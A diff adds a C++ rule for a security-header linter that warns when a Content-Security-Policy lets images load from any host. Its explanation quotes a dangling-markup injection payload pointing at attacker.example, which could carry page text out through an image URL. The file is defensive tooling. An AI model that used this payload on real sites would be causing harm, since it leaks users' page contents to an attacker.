@@ -1,0 +1,39 @@
+#include "rules/csp/helpers.hpp"
+#include "rules/rule.hpp"
+
+namespace headstrong::rules::csp_image_any_host {
+
+using namespace csp_rules;
+
+void check(const Context& context, Sink& sink) {
+  const decide::PolicyDecision* by = allowed_by_source(context, Attempt::HttpsImage);
+  if (by == nullptr) return;
+  sink.at(*by->policy, by->source->span).arguments = {std::string(by->source->text),
+                                                      std::string(by->directive->name_text)};
+}
+
+const RuleSpec kRule = {
+    {
+        .id = "csp/image-any-host",
+        .header = "Content-Security-Policy",
+        .severity = Severity::Info,
+        .category = Category::Security,
+        .confidence = Confidence::Certain,
+        .title = "Images may come from any host",
+        .message = "{0} in {1} lets the page ask every host for an image.",
+        .why = "The address of an image can carry data out: injected markup such as <img "
+               "src='https://attacker.example/? with an open quote swallows the page's text "
+               "up to the next quote and sends it along. Pages that show images from "
+               "everywhere need it all the same.",
+        .advice = "List the hosts of your images, or fetch foreign images through a host of your "
+                  "own.",
+        .references = {"https://www.w3.org/TR/CSP3/#directive-img-src",
+                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
+                       "Content-Security-Policy/img-src"},
+        .bad = "default-src 'self'; img-src 'self' https:",
+        .good = "default-src 'self'; img-src 'self' data:",
+    },
+    check,
+};
+
+}  // namespace headstrong::rules::csp_image_any_host
